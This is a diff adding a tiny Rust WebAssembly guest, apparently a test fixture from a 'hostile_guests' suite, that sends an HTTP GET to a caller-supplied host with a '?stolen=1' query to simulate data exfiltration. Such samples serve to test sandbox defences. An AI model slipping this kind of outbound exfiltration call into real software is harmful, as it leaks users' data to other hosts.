@@ -1,0 +1,11 @@
+//! Reads from another host, with whatever it likes in the path.
+#![cfg(target_family = "wasm")]
+
+use hostile_guests::wasip2::http::types::Method;
+use hostile_guests::{End, ask, guest, url};
+
+guest!(run);
+
+fn run(target: &str) -> End {
+    ask(&Method::Get, &url(&format!("{target}/?stolen=1")), &[])
+}
